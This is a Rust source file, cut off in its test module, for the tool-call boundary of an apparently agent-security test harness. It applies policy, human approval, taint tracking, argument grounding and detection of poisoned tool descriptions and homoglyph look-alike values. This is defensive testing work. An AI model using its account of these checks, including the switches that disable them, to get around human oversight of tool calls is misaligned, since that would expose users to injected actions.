//! The tool boundary: what happens to a proposed call of a fixture tool, for the
//! built-in runtime and an external agent alike.
//!
//! policy (deny > escalate > allow, and `poisoned-tool` for refused tools; the taint and
//! grounding floors) → approval if escalated → idempotency → sandbox execution (faults,
//! fixtures, effects) → taint and grounding bookkeeping. One implementation, so a mitigation the security suite proves for the
//! built-in runtime holds in front of the team's own agent too, with the same events.

use serde_json::{Value, json};

use std::borrow::Cow;
use std::sync::{Arc, Mutex};

use super::grounding::{self, CallGrounding, Found, Grounding, Origin, Source};
use super::{Recorder, idempotency, policy, taint};
use crate::canon;
use crate::dataset::Case;
use crate::event::Kind;
use crate::event::payload::{Out, write};
use crate::event::writer::WriteError;
use crate::pipeline::manifest::Trust::Trusted;
use crate::pipeline::manifest::{Manifest, ProtocolError, ToolSpec};
use crate::pipeline::profile::PoisonedTools;
use crate::pipeline::{AgentProfile, ApprovalAnswer, Enforcement, SafetyClass, Verdict};
use crate::sandbox::poisoning::{self, Finding};
use crate::sandbox::{FaultKind, Sandbox};
use crate::text::switches;

pub struct ToolBoundary<'a> {
    case: &'a Case,
    run_index: usize,
    profile: &'a AgentProfile,
    manifest: &'a Manifest,
    pub sandbox: Sandbox<'a>,
    pub taint: taint::Taint,
    /// Where trusted values came from (`agent::grounding`).
    grounding: Grounding,
    /// User turns already in `grounding`; a handoff target grounds none of its own.
    grounded_turns: usize,
    inherited: bool,
    /// Some tool of the manifest has sensitive arguments, or the agent hands off to one
    /// that may: without either, grounding has nothing to decide and is not kept.
    grounds: bool,
    idempotency: idempotency::IdempotencyStore,
    /// `enforcement = "observe"`: decisions are logged as they would have been, and
    /// every call proceeds.
    observe: bool,
    /// Keyed calls the boundary withheld whose counterfactual execution succeeded: a
    /// retry of one would have been deduplicated, so its effect is not counted twice.
    withheld_keys: Vec<(idempotency::Keyed, String, Value)>,
    /// The counterfactual state once a call was withheld: the real state with every
    /// withheld effect applied in its place, so a later withheld call (the attacker's
    /// second step) is run where its first step happened.
    shadow: Option<Value>,
    /// Tools the poisoning checks flagged (announced once), and those refused.
    poisoned: Vec<Finding>,
    refused: Vec<String>,
    /// The last call's fixture could not answer it (see [`crate::sandbox::FixtureError`]):
    /// logged as an `error` event of kind `fixture_error`; the agent loop takes it and
    /// fails the run.
    pub fixture_error: Option<String>,
}

/// What cases share, made once and kept: a manifest's poisoned tools, for the names the
/// agent reserves, by the manifest's content digest; and the grounding of a profile's
/// own sources (its system prompt, then its trusted values), by their text. Made for
/// every case they were 1 % of a 220-case suite's instructions; kept apart because a
/// suite with a manifest per case shares one profile's grounding among all of them (made
/// with each manifest, it was 2 % of such a suite's CPU).
struct Kept<K, V> {
    recent: Mutex<Vec<(K, Arc<V>)>>,
}

/// Distinct keys whose parts are kept at once, newest last.
const KEPT: usize = 16;

impl<K: PartialEq, V> Kept<K, V> {
    const fn new() -> Self {
        Kept { recent: Mutex::new(Vec::new()) }
    }

    /// What `key` was made into before, or `make()`, kept.
    fn get_or_make(&self, key: K, make: impl FnOnce() -> V) -> Arc<V> {
        if let Some(found) =
            self.recent.lock().ok().and_then(|kept| kept.iter().find(|(k, _)| *k == key).map(|(_, v)| v.clone()))
        {
            return found;
        }
        let made = Arc::new(make());
        if let Ok(mut kept) = self.recent.lock() {
            if kept.len() >= KEPT {
                kept.remove(0);
            }
            kept.push((key, made.clone()));
        }
        made
    }
}

/// What a manifest's poisoning scan is made from: the manifest by its content digest.
#[derive(PartialEq)]
struct PoisonKey {
    manifest: canon::Digest,
    reserved: Vec<String>,
}

/// What a profile's grounding is made from.
#[derive(PartialEq)]
struct GroundKey {
    system: String,
    trusted_values: Vec<String>,
}

static POISONED: Kept<PoisonKey, Vec<Finding>> = Kept::new();
static GROUNDED: Kept<GroundKey, Grounding> = Kept::new();

/// The grounding of `profile`'s own sources.
fn profile_grounding(profile: &AgentProfile) -> Grounding {
    let mut grounding = Grounding::default();
    let context = |source| Origin { seq: None, source };
    grounding.ground(&serde_json::json!(profile.system), context(Source::SystemPrompt));
    grounding.ground(&serde_json::json!(profile.trusted_values), context(Source::TrustedValues));
    grounding
}

/// `manifest`'s poisoned tools, kept from an earlier case of the same manifest content
/// and reserved names, or found. A manifest without a content digest (one built in
/// code) is never looked up.
fn poisoned(manifest: &Manifest, reserved: &[&str]) -> Arc<Vec<Finding>> {
    let Some(digest) = manifest.digest else { return Arc::new(poisoning::scan(manifest, reserved)) };
    let key = PoisonKey { manifest: digest, reserved: reserved.iter().map(|r| r.to_string()).collect() };
    POISONED.get_or_make(key, || poisoning::scan(manifest, reserved))
}

/// The grounding of `profile`'s own sources, kept from an earlier case of the same
/// prompt and trusted values, or made.
fn grounded(profile: &AgentProfile) -> Arc<Grounding> {
    let key = GroundKey { system: profile.system.clone(), trusted_values: profile.trusted_values.to_vec() };
    GROUNDED.get_or_make(key, || profile_grounding(profile))
}

impl<'a> ToolBoundary<'a> {
    /// `reserved`: tool names the agent provides itself (the built-in memory tools),
    /// which a manifest tool must not shadow.
    pub fn new(
        case: &'a Case,
        run_index: usize,
        profile: &'a AgentProfile,
        manifest: &'a Manifest,
        reserved: &[&str],
    ) -> Self {
        let poisoned = poisoned(manifest, reserved).as_ref().clone();
        let refused = match profile.poisoned_tools {
            PoisonedTools::Refuse => poisoned.iter().map(|f| f.tool.clone()).collect(),
            _ => Vec::new(),
        };
        let observe = profile.enforcement == Enforcement::Observe;
        let mut sandbox = Sandbox::with_faults(manifest, &profile.faults, profile.timeout_ms());
        // observed, a poisoned tool is offered and acts as production would let it
        if profile.poisoned_tools == PoisonedTools::ReadOnly && !observe {
            poisoned.iter().for_each(|f| sandbox.set_read_only(&f.tool));
        }
        let mut grounding = grounded(profile).as_ref().clone();
        let context = |source| Origin { seq: None, source };
        grounding.ground(&serde_json::json!(case.trusted_values), context(Source::TrustedValues));
        let grounds = manifest.tools.iter().any(|t| t.has_sensitive() || t.requested_by().is_some())
            || !profile.handoffs.is_empty();
        ToolBoundary {
            case,
            run_index,
            profile,
            manifest,
            sandbox,
            taint: taint::Taint::default(),
            grounding,
            grounded_turns: 0,
            inherited: false,
            grounds,
            idempotency: idempotency::IdempotencyStore::default(),
            observe,
            withheld_keys: Vec::new(),
            shadow: None,
            poisoned,
            refused,
            fixture_error: None,
        }
    }

    /// The manifest's tools offered to the model: a refused tool never is (observed,
    /// every tool is, as production would offer it).
    pub fn offered(&self) -> impl Iterator<Item = &'a ToolSpec> + '_ {
        self.manifest.tools.iter().filter(|t| self.observe || !self.refused.contains(&t.name))
    }

    pub fn manifest(&self) -> &'a Manifest {
        self.manifest
    }

    /// Flag every poisoned tool (`security_flagged`, class `tool_poisoning`) and taint
    /// its description: whatever a poisoned description says is attacker content, so an
    /// argument lifted from it meets the taint rules.
    pub fn announce(&mut self, rec: &mut Recorder) -> Result<(), WriteError> {
        let action = match (self.profile.poisoned_tools, self.observe) {
            (PoisonedTools::Refuse, false) => "refused",
            (PoisonedTools::ReadOnly, false) => "downgraded to read-only",
            (PoisonedTools::Refuse, true) => "would be refused (enforcement = \"observe\")",
            (PoisonedTools::ReadOnly, true) => "would be downgraded to read-only (enforcement = \"observe\")",
            (PoisonedTools::Allow, _) => "allowed (poisoned_tools = \"allow\")",
        };
        for finding in std::mem::take(&mut self.poisoned) {
            let detail = format!("tool {}: {}; {action}", finding.tool, finding.detail);
            let seq = rec.emit(&write::SecurityFlagged {
                class: "tool_poisoning".into(),
                severity: "high".into(),
                source: 0u64.into(),
                tool: (&finding.tool).into(),
                detail: (&detail).into(),
                request: Out::Absent,
                call_id: Out::Absent,
            })?;
            // the flag is the event that introduced the description's taint
            if let Some(spec) = self.manifest.tool(&finding.tool) {
                self.taint.absorb(&json!(spec.description), seq);
            }
        }
        Ok(())
    }

    /// A handoff target's grounded set is its caller's, nothing more: not the case's
    /// turns (the payload is the caller's words, not the user's), not its own context.
    pub fn inherit_grounding(&mut self, caller: &mut ToolBoundary<'_>, rec: &Recorder) {
        caller.ground_turns(rec);
        self.grounding = caller.grounding.clone();
        self.inherited = true;
    }

    /// Ground the user's turns up to the current one, each by its `turn_started`.
    fn ground_turns(&mut self, rec: &Recorder) {
        if self.inherited {
            return;
        }
        let upto = rec.turn().map_or(0, |t| t as usize + 1).min(self.case.turns.len());
        for turn in self.grounded_turns..upto {
            let seq = rec
                .events()
                .iter()
                .rev()
                .find(|e| e.kind == Kind::TurnStarted && e.data.member("turn").as_u64() == Some(turn as u64));
            let origin = Origin { seq: seq.map(|e| e.seq), source: Source::UserTurn };
            self.grounding.ground_turn(&self.case.turns[turn], origin);
        }
        self.grounded_turns = self.grounded_turns.max(upto);
    }

    /// The grounding of a call's sensitive arguments: each grounded argument with what
    /// grounded it, and the first ungrounded one with its value. `None`: the call has no
    /// sensitive argument.
    fn ground_call<'v>(&mut self, rec: &Recorder, tool: &str, args: &'v Value) -> Option<CallGrounding<'v>> {
        if !self.grounds {
            return None;
        }
        let spec = self.manifest.tool(tool)?;
        let mut sensitive = spec.sensitive_args(args);
        // what a message points its reader to is directed like its recipient
        for (arg, text) in spec.free_text(args) {
            sensitive.extend(grounding::pointers(text).into_iter().map(|p| (arg, Cow::Borrowed(p))));
        }
        if sensitive.is_empty() {
            return None;
        }
        self.ground_turns(rec);
        Some(self.grounding.of_call(sensitive))
    }

    /// The words a user's request must say for a call of `tool`, when the tool needs
    /// a request and no user turn so far said any of them.
    fn unrequested(&mut self, rec: &Recorder, tool: &str) -> Option<Vec<&'a str>> {
        let words = self.manifest.tool(tool)?.requested_by()?;
        self.ground_turns(rec);
        self.grounding.requested(&words).is_none().then_some(words)
    }

    /// The safety class a call of `tool` has under the manifest (read when unknown).
    pub fn class(&self, tool: &str) -> SafetyClass {
        self.manifest.tool(tool).map_or(SafetyClass::Read, ToolSpec::safety_class)
    }

    /// Policy, then approval when escalated: `policy_decided` (and the approval events).
    /// `Ok(None)`: allowed. `Ok(Some(result))`: denied, with the result the agent sees.
    pub fn decide(
        &mut self,
        rec: &mut Recorder,
        call_id: &str,
        tool: &str,
        class: SafetyClass,
        args: &Value,
    ) -> Result<Option<Value>, WriteError> {
        let source = self.taint.source_of(args);
        let args_tainted = source.is_some();
        let grounded = self.ground_call(rec, tool, args);
        let ungrounded = grounded.as_ref().and_then(CallGrounding::missing);
        // no value that directs the call is anyone's but the user's: taint alone is no reason to deny
        let all_grounded =
            self.grounds && self.manifest.tool(tool).is_some_and(ToolSpec::has_sensitive) && ungrounded.is_none();
        let unrequested = if self.grounds { self.unrequested(rec, tool) } else { None };
        let proposal = policy::Proposal { tool, class, args_tainted, ungrounded, unrequested: unrequested.as_deref() };
        if let Some(g) = grounded.as_ref().filter(|g| g.look_alikes > 0) {
            self.flag_look_alikes(rec, tool, g)?;
        }
        let mut decision = if self.refused.iter().any(|r| r == tool) {
            policy::Decision {
                verdict: Verdict::Deny,
                rule: "poisoned-tool".into(),
                reason: "the tool failed the manifest poisoning checks and is refused".into(),
            }
        } else {
            policy::decide(&self.profile.policy, &proposal)
        };
        if decision.verdict != Verdict::Deny
            && !switches::off("taint-floor")
            && !all_grounded
            && let Some(floor) = policy::taint_floor(&proposal)
        {
            decision = floor;
        }
        if !switches::off("grounding-floor")
            && let Some(mut floor) = policy::grounding_floor(&proposal, self.profile.ungrounded)
            && floor.verdict > decision.verdict
        {
            if let Some(g) = &grounded {
                floor.reason.push_str(match g.why {
                    Found::LookAlike(_) => "; it only looks like a grounded value: letters of another script",
                    Found::Warned(_) => "; the user named it only to warn of it",
                    _ => "",
                });
            }
            decision = floor;
        }
        if !switches::off("request-floor")
            && let Some(floor) = policy::request_floor(&proposal, self.profile.unrequested)
            && floor.verdict > decision.verdict
        {
            decision = floor;
        }
        if args_tainted && all_grounded && decision.rule == "default" {
            decision.reason = "no rule matched; the arguments carry untrusted content, and every value that directs \
                               the call is grounded"
                .into();
        }
        // name the event that introduced the taint, so a denial points at its real cause
        let tainted_by = source.map(|seq| {
            let by = rec
                .events()
                .get(seq as usize)
                .and_then(|e| e.data.member("tool").as_str())
                .unwrap_or_default()
                .to_string();
            if decision.verdict == Verdict::Deny {
                decision.reason = format!("{} (taint introduced by event {seq}, {by})", decision.reason);
            }
            (seq, by)
        });
        let tainted_by =
            tainted_by.as_ref().map(|(seq, tool)| write::TaintedBy { seq: (*seq).into(), tool: tool.into() });
        let ungrounded = grounded
            .as_ref()
            .and_then(|g| g.missing())
            .map(|(arg, value)| write::Ungrounded { arg: arg.into(), value: value.into() });
        rec.emit(&write::PolicyDecided {
            call_id: call_id.into(),
            tool: tool.into(),
            verdict: self.logged_verdict(decision.verdict).into(),
            rule: (&decision.rule).into(),
            reason: (&decision.reason).into(),
            args_tainted: args_tainted.into(),
            tainted_by: tainted_by.as_ref().map_or(Out::Absent, |by| Out::Object(by)),
            // only calls with sensitive arguments carry grounding, so other logs keep their bytes
            grounded: grounded.as_ref().map_or(Out::Absent, |g| Out::Map(&g.by)),
            ungrounded: ungrounded.as_ref().map_or(Out::Absent, |u| Out::Object(u)),
        })?;
        // what withheld the call, when something does: the policy's verdict, or the
        // approval that did not come
        let mut withheld_by = String::from("policy");
        let allowed = match decision.verdict {
            // observed: logged as it would have been, and the call goes on
            _ if self.observe => true,
            Verdict::Allow => true,
            Verdict::Deny => false,
            Verdict::Escalate => {
                let (approved, human, by) = self.approve(rec, call_id, tool, class)?;
                withheld_by = by;
                // the values the user confirmed are the user's from now on: every one the
                // call carried ungrounded, not only the one the event names
                if approved && human {
                    let origin = Origin { seq: Some(rec.next_seq() - 1), source: Source::Approval };
                    for value in grounded.iter().flat_map(|g| &g.every_missing) {
                        self.grounding.ground(&json!(value.as_ref()), origin);
                    }
                }
                approved
            }
        };
        if !allowed {
            self.withhold(rec, call_id, tool, args, &decision.rule, &withheld_by)?;
        }
        Ok((!allowed).then(|| json!({"error": format!("denied by policy ({}): {}", decision.rule, decision.reason)})))
    }

    /// `security_flagged` (class `lookalike`): a call's value matches a grounded one
    /// only through letters of another script that look alike.
    fn flag_look_alikes(&mut self, rec: &mut Recorder, tool: &str, g: &CallGrounding<'_>) -> Result<(), WriteError> {
        let (arg, value) = g.missing().unwrap_or_default();
        let source = match g.why {
            Found::LookAlike(origin) => origin.seq.unwrap_or(0),
            _ => 0,
        };
        let detail = format!(
            "argument {arg} = {value:?} of {tool} only looks like a grounded value: letters of another script; {} \
             value(s) of the call",
            g.look_alikes
        );
        rec.emit(&write::SecurityFlagged {
            class: "lookalike".into(),
            severity: "high".into(),
            source: source.into(),
            tool: tool.into(),
            detail: (&detail).into(),
            request: Out::Absent,
            call_id: Out::Absent,
        })?;
        Ok(())
    }

    /// The verdict as `policy_decided` logs it: observed, a deny or an escalation is
    /// what it would have been (`would_deny`, `would_escalate`).
    fn logged_verdict(&self, verdict: Verdict) -> &'static str {
        match (verdict, self.observe) {
            (Verdict::Deny, true) => "would_deny",
            (Verdict::Escalate, true) => "would_escalate",
            (verdict, _) => verdict.as_str(),
        }
    }

    /// A call the boundary withheld (denied, or escalated and not approved): what it
    /// would have done, run against a throwaway copy of the sandbox state, so the log
    /// says what the agent attempted apart from what took effect. Logged as
    /// `tool_withheld` only when it would have changed the state: a withheld read, a
    /// call its fixture refuses, or a retry that idempotency would have deduplicated
    /// (against an executed or an earlier withheld call) leaves the log as it was.
    fn withhold(
        &mut self,
        rec: &mut Recorder,
        call_id: &str,
        tool: &str,
        args: &Value,
        rule: &str,
        by: &str,
    ) -> Result<(), WriteError> {
        let Some(spec) = self.manifest.tool(tool) else { return Ok(()) };
        let keyed = spec.idempotent.then(|| {
            let scope = format!("{}/{}", self.case.id, self.run_index);
            let declared = declared_arguments(spec);
            idempotency::key_and_args(&scope, rec.turn().unwrap_or(0), tool, args, declared.as_deref())
        });
        let mut key = None;
        if let Some(keyed) = &keyed {
            let mut store = self.idempotency.clone();
            for (k, key, result) in &self.withheld_keys {
                store.record(k, key.clone(), result.clone(), 0);
            }
            let k = store.key_for(keyed);
            if store.replay(&k).is_some() {
                return Ok(());
            }
            key = Some(k);
        }
        let execution = self.sandbox.would_in(self.shadow.as_ref(), tool, keyed.as_ref().map_or(args, |k| &k.args));
        let Some(effect) = execution.effect.filter(|_| execution.fixture_error.is_none()) else {
            return Ok(());
        };
        let mut shadow = self.shadow.take().unwrap_or_else(|| self.sandbox.state().clone());
        crate::event::fold::apply_effect(&mut shadow, &effect);
        self.shadow = Some(shadow);
        let mut idempotency_key = None;
        if let (Some(keyed), Some(key)) = (keyed, key)
            && !execution.is_error
        {
            // a later call with this key would have been the retry of this one: the
            // counterfactual state does not count its effect again
            idempotency_key = Some(key.clone());
            self.withheld_keys.push((keyed, key, execution.result));
        }
        rec.emit(&write::ToolWithheld {
            call_id: call_id.into(),
            tool: tool.into(),
            rule: rule.into(),
            by: by.into(),
            effect: (&effect).into(),
            idempotency_key: idempotency_key.as_ref().map_or(Out::Absent, Out::from),
        })?;
        Ok(())
    }

    /// Route an escalated call: `auto` (the profile approves), `human` (the case's
    /// recorded decision; none recorded means nobody answered, so denied) or `deny`.
    /// Whether it was approved, and whether a person decided.
    fn approve(
        &mut self,
        rec: &mut Recorder,
        call_id: &str,
        tool: &str,
        class: SafetyClass,
    ) -> Result<(bool, bool, String), WriteError> {
        let approvals = &self.profile.approvals;
        let configured = approvals
            .get(tool)
            .map(|a| (*a, tool))
            .or_else(|| approvals.get(class.as_str()).map(|a| (*a, class.as_str())));
        let (route, approved, by) = match configured {
            Some((ApprovalAnswer::Approve, key)) => ("auto", true, format!("profile:{key}")),
            Some((ApprovalAnswer::Deny, key)) => ("deny", false, format!("profile:{key}")),
            Some((ApprovalAnswer::Human, _)) => {
                let human = &self.case.human_approvals;
                match human
                    .get(tool)
                    .map(|a| (*a, tool))
                    .or_else(|| human.get(class.as_str()).map(|a| (*a, class.as_str())))
                {
                    Some((answer, key)) => ("human", answer, format!("human:{key}")),
                    None => ("human", false, "human:unanswered".to_string()),
                }
            }
            None => ("deny", false, "default-deny".to_string()),
        };
        rec.emit(&write::ApprovalRequested { call_id: call_id.into(), tool: tool.into(), route: route.into() })?;
        rec.emit(&write::ApprovalResolved { call_id: call_id.into(), approved: approved.into(), by: (&by).into() })?;
        Ok((approved, route == "human", format!("approval:{by}")))
    }

    /// Execute an allowed call of a fixture tool: idempotency, faults, fixtures,
    /// effects, `tool_executed`, taint. Returns the result, whether it is an error,
    /// and the protocol error when the fixture answers with one.
    pub fn execute(
        &mut self,
        rec: &mut Recorder,
        call_id: &str,
        tool: &str,
        args: &Value,
    ) -> Result<ToolAnswer, WriteError> {
        Ok(self.execute_written(rec, call_id, tool, args, None)?.0)
    }

    /// [`ToolBoundary::execute`] for a caller that has the arguments' canonical text
    /// (`args_text`, written once for every event of the call) and wants the result's
    /// as the `tool_executed` event holds it (`None` when the call was not answered by
    /// its tool or the result has no canonical form: the caller writes it, and says why).
    pub fn execute_written(
        &mut self,
        rec: &mut Recorder,
        call_id: &str,
        tool: &str,
        args: &Value,
        args_text: Option<&str>,
    ) -> Result<(ToolAnswer, Option<String>), WriteError> {
        let written_args = args_text.map_or(Out::Value(args), Out::Canonical);
        let spec = self.manifest.tool(tool);
        let idempotent = spec.is_some_and(|s| s.idempotent);
        let keyed = idempotent.then(|| {
            let scope = format!("{}/{}", self.case.id, self.run_index);
            let declared = spec.and_then(declared_arguments);
            idempotency::key_and_args(&scope, rec.turn().unwrap_or(0), tool, args, declared.as_deref())
        });
        let key = keyed.as_ref().map(|k| self.idempotency.key_for(k));
        let fixture_args = keyed.as_ref().map_or(args, |k| &k.args);
        if let Some(key) = &key
            && let Some((result, first)) = self.idempotency.replay(key).cloned()
        {
            // the operation already happened: its result again, and no second effect
            rec.emit(&write::ToolExecuted {
                call_id: call_id.into(),
                tool: tool.into(),
                args: written_args,
                result: (&result).into(),
                is_error: false.into(),
                fault: Out::Null,
                duration_ms: 0u64.into(),
                deduplicated: true.into(),
                effect: Out::Null,
                injected: Out::Absent,
                timeout_ms: Out::Absent,
                idempotency_key: key.into(),
                first_execution: first.into(),
                error_kind: Out::Absent,
                source: Out::Absent,
                args_raw: Out::Absent,
                args_error: Out::Absent,
                absent: Out::Absent,
            })?;
            return Ok((ToolAnswer { result, is_error: false, protocol_error: None }, None));
        }
        let mut execution = self.sandbox.call(tool, fixture_args);
        // virtual time: a hang costs the timeout, and nothing sleeps
        rec.advance(execution.duration_ms);
        let effect = execution.effect.take();
        let changed = effect.is_some();
        // what took effect for real takes effect in the counterfactual state too
        if let (Some(shadow), Some(effect)) = (self.shadow.as_mut(), effect.as_ref()) {
            crate::event::fold::apply_effect(shadow, effect);
        }
        // only faulted calls carry fault details, keyed calls a key, and protocol errors
        // a kind, so other logs keep their bytes
        let fault = execution.fault.as_ref();
        let declared = fault.map(|f| f.declared.to_string());
        // the result's canonical text, written once for the event and the caller
        let result_text = match execution.result_text.take() {
            // a fixture's result as written: its text was written once, with the manifest
            Some(text) => Some(String::from(&*text)),
            None => canon::to_canonical_string(&execution.result).ok(),
        };
        let seq = rec.emit(&write::ToolExecuted {
            call_id: call_id.into(),
            tool: tool.into(),
            args: written_args,
            result: result_text.as_deref().map_or(Out::Value(&execution.result), Out::Canonical),
            is_error: execution.is_error.into(),
            fault: fault.map(|f| f.kind.as_str()).into(),
            duration_ms: execution.duration_ms.into(),
            deduplicated: false.into(),
            effect: effect.as_ref().into(),
            injected: declared.as_ref().map_or(Out::Absent, Out::from),
            timeout_ms: fault.map_or(Out::Absent, |f| f.timeout_ms.into()),
            idempotency_key: key.as_ref().map_or(Out::Absent, Out::from),
            first_execution: Out::Absent,
            error_kind: execution.protocol_error.as_ref().map_or(Out::Absent, |_| "protocol".into()),
            source: Out::Absent,
            args_raw: Out::Absent,
            args_error: Out::Absent,
            absent: Out::Absent,
        })?;
        let reached = execution.fault.as_ref().is_none_or(|f| f.kind == FaultKind::Slow);
        if reached && execution.fixture_error.is_none() && !changed && self.sandbox.is_read_only(tool) {
            // a poisoned tool downgraded to read-only: its effect withheld, as a denial's
            // is (a call a fault stopped first had no effect to withhold)
            let would = self.sandbox.would_unrestricted(tool, fixture_args);
            if let (Some(effect), None) = (would.effect, would.fixture_error) {
                rec.emit(&write::ToolWithheld {
                    call_id: call_id.into(),
                    tool: tool.into(),
                    rule: "poisoned-tool".into(),
                    by: "read_only".into(),
                    effect: (&effect).into(),
                    idempotency_key: Out::Absent,
                })?;
            }
        }
        if let Some(fixture) = &execution.fixture_error {
            let message = fixture.to_string();
            rec.emit(&write::Error {
                kind: "fixture_error".into(),
                message: (&message).into(),
                code: Out::Absent,
                at: Out::Absent,
                source: seq.into(),
            })?;
            self.fixture_error = Some(message);
            return Ok((ToolAnswer { result: execution.result, is_error: true, protocol_error: None }, None));
        }
        if let (Some(key), Some(keyed)) = (key, &keyed)
            && !execution.is_error
        {
            self.idempotency.record(keyed, key, execution.result.clone(), seq);
        }
        // a timeout or an injected error is our own text, not the tool's content
        let answered = execution.fault.as_ref().is_none_or(|f| f.kind == FaultKind::Slow);
        let trusted = spec.is_some_and(|s| s.trust == Trusted);
        if let Some(spec) = spec.filter(|s| answered && !execution.is_error && s.trust_by_field()) {
            // some members are the system's records, others an outsider's words, and
            // some the words of an author the user named
            let authored = self.authored(rec, spec, &execution.result, seq);
            let (records, words) = split_by_trust(spec, &execution.result, &authored);
            self.taint.absorb(&words, seq);
            self.records(rec, fixture_args, &records, seq);
        } else if answered && (!trusted || execution.is_error) {
            // an error message is whatever the failing side chose to say: read as untrusted
            self.taint.absorb(&execution.result, seq);
        } else if answered && trusted {
            self.trusted_result(rec, fixture_args, &execution.result, seq);
        }
        let answer = ToolAnswer {
            result: execution.result,
            is_error: execution.is_error,
            protocol_error: execution.protocol_error,
        };
        Ok((answer, result_text))
    }
}

impl ToolBoundary<'_> {
    /// The members of a result whose author (`authored_by`) the user's own words name:
    /// each grounds like those words and is no outsider's text. Their paths, for
    /// [`split_by_trust`] to leave out.
    fn authored(&mut self, rec: &Recorder, spec: &ToolSpec, result: &Value, seq: u64) -> Vec<Vec<String>> {
        if !self.grounds || spec.authored_by.is_empty() {
            return Vec::new();
        }
        self.ground_turns(rec);
        let grounding = &self.grounding;
        let members = spec.authored(result, &mut |author| grounding.named_by_user(author).is_some());
        let origin = Origin { seq: Some(seq), source: Source::NamedAuthor };
        let mut paths = Vec::with_capacity(members.len());
        for (path, value) in members {
            self.grounding.ground_authored(value, origin);
            paths.push(path);
        }
        paths
    }

    /// The members of a result the manifest marks as the system's records: each grounds
    /// itself whole when the call's inputs were grounded, and carries the taint of its
    /// inputs, as a trusted result does.
    fn records(&mut self, rec: &Recorder, inputs: &Value, records: &Value, seq: u64) {
        if self.grounds {
            self.ground_turns(rec);
            if self.grounding.all_grounded(inputs) {
                self.grounding.ground_records(records, Origin { seq: Some(seq), source: Source::ToolResult });
            }
        }
        if self.taint.touches(inputs) {
            self.taint.absorb(records, seq);
        }
    }

    /// A trusted result carries the provenance of its inputs: it grounds when they were
    /// all grounded, and is tainted when they were.
    fn trusted_result(&mut self, rec: &Recorder, inputs: &Value, result: &Value, seq: u64) {
        if self.grounds {
            self.ground_turns(rec);
            if self.grounding.all_grounded(inputs) {
                self.grounding.ground(result, Origin { seq: Some(seq), source: Source::ToolResult });
            }
        }
        if self.taint.touches(inputs) {
            self.taint.absorb(result, seq);
        }
    }
}

/// A result's leaves in two lists: the members the manifest says are the system's
/// records, and those an outsider can write (`ToolSpec::untrusted_at`); the members at
/// `authored` (their author named by the user) are in neither.
fn split_by_trust(spec: &ToolSpec, result: &Value, authored: &[Vec<String>]) -> (Value, Value) {
    struct Split<'a> {
        spec: &'a ToolSpec,
        authored: &'a [Vec<String>],
        records: Vec<Value>,
        words: Vec<Value>,
    }
    impl Split<'_> {
        fn walk(&mut self, value: &Value, path: &mut Vec<String>) {
            if !self.authored.is_empty() && self.authored.contains(path) {
                return;
            }
            match value {
                Value::Array(items) => items.iter().enumerate().for_each(|(i, v)| {
                    path.push(i.to_string());
                    self.walk(v, path);
                    path.pop();
                }),
                Value::Object(map) => map.iter().for_each(|(k, v)| {
                    path.push(k.clone());
                    // a key that directs something (an address, a link) is its writer's
                    // where its member is (a record's keys ground nothing: only its values)
                    if taint::key_is_text(k)
                        && !self.authored.contains(path)
                        && self.spec.untrusted_at(&tokens_of(path))
                    {
                        self.words.push(Value::String(k.clone()));
                    }
                    self.walk(v, path);
                    path.pop();
                }),
                Value::Null | Value::Bool(_) => {}
                leaf => {
                    if self.spec.untrusted_at(&tokens_of(path)) {
                        self.words.push(leaf.clone())
                    } else {
                        self.records.push(leaf.clone())
                    }
                }
            }
        }
    }
    fn tokens_of(path: &[String]) -> Vec<&str> {
        path.iter().map(String::as_str).collect()
    }
    let mut split = Split { spec, authored, records: Vec::new(), words: Vec::new() };
    split.walk(result, &mut Vec::new());
    (Value::Array(split.records), Value::Array(split.words))
}

/// What an executed call answers.
#[derive(Debug, Clone, PartialEq)]
pub struct ToolAnswer {
    pub result: Value,
    pub is_error: bool,
    /// The call failed before it reached the tool (`result` is the error object): an
    /// MCP client gets it as a JSON-RPC error, not as a result.
    pub protocol_error: Option<ProtocolError>,
}

/// The argument names a tool's `input_schema` declares, when it declares any.
fn declared_arguments(spec: &ToolSpec) -> Option<Vec<String>> {
    let properties = spec.input_schema.as_ref()?.get("properties")?.as_object()?;
    Some(properties.keys().cloned().collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn manifest(name: &str) -> Manifest {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/tools").join(name);
        Manifest::load(&path, name).expect("a shipped manifest loads")
    }

    fn profile(system: &str, trusted: &[&str]) -> AgentProfile {
        let mut profile: AgentProfile = toml::from_str("").expect("an empty profile");
        profile.system = system.to_string();
        profile.trusted_values = crate::pipeline::sparse::Sparse::new(trusted.iter().map(|t| t.to_string()).collect());
        profile
    }

    /// What a case shares with the others of its profile is what the profile and its
    /// manifest alone give: kept once, and never another profile's or manifest's.
    #[test]
    fn what_cases_share_is_made_from_their_own_profile_and_manifest() {
        let (bank, support) = (manifest("bank.json"), manifest("support.json"));
        let a = profile("Pay the payee Acme-Holdings-17 only.", &[]);
        let b = profile("Pay the payee Zed-Partners-42 only.", &["IBAN DE00 1234"]);
        let reserved = ["memory_write"];
        for m in [&bank, &support] {
            let kept = poisoned(m, &reserved);
            assert_eq!(*kept, poisoning::scan(m, &reserved));
            assert!(Arc::ptr_eq(&kept, &poisoned(m, &reserved)), "kept, not found again");
        }
        for p in [&a, &b] {
            let kept = grounded(p);
            assert_eq!(format!("{:?}", kept), format!("{:?}", profile_grounding(p)));
            assert!(Arc::ptr_eq(&kept, &grounded(p)), "kept, not made again");
        }
        // each profile's own prompt grounds, the other's does not
        let (ga, gb) = (grounded(&a), grounded(&b));
        assert!(ga.origin_of("Acme-Holdings-17").is_some());
        assert!(ga.origin_of("Zed-Partners-42").is_none());
        assert!(gb.origin_of("Zed-Partners-42").is_some());
        assert!(gb.origin_of("DE00 1234").is_some());
        // a profile with the same prompt but other trusted values is grounded apart
        let a_trusting = profile("Pay the payee Acme-Holdings-17 only.", &["IBAN DE00 1234"]);
        assert!(grounded(&a_trusting).origin_of("DE00 1234").is_some());
        assert!(grounded(&a).origin_of("DE00 1234").is_none());
        // the bank manifest has a poisoned tool, the support one none
        assert!(!poisoned(&bank, &reserved).is_empty());
        assert!(poisoned(&support, &reserved).is_empty());
        // other reserved names are another scan (a tool may collide with one)
        let none: [&str; 0] = [];
        assert!(!Arc::ptr_eq(&poisoned(&bank, &reserved), &poisoned(&bank, &none)));
        // a manifest built in code has no digest to be kept by
        let mut built = bank.clone();
        built.digest = None;
        assert!(!Arc::ptr_eq(&poisoned(&built, &reserved), &poisoned(&built, &reserved)));
